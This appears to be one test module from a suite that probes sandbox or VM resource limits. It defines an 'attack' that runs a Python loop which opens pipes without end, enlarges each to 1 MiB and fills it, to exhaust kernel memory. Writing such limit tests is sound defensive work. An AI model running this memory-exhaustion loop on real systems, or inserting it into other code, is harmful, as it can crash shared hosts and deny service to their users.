import type { Attack } from "../attack.ts";
import { pileUp } from "./pile.helper.ts";

export const attack: Attack = {
  promise: 9,
  must: "Pipes of the largest size are the run's memory.",
  needs: ["kvm", "python"],
  run: (stage) =>
    pileUp(stage, {
      code: `while True:
  r, w = os.pipe(); fcntl.fcntl(w, 1031, 1 << 20); os.set_blocking(w, False); os.write(w, bytes(1 << 20))`,
      ends: "memory",
    }),
};
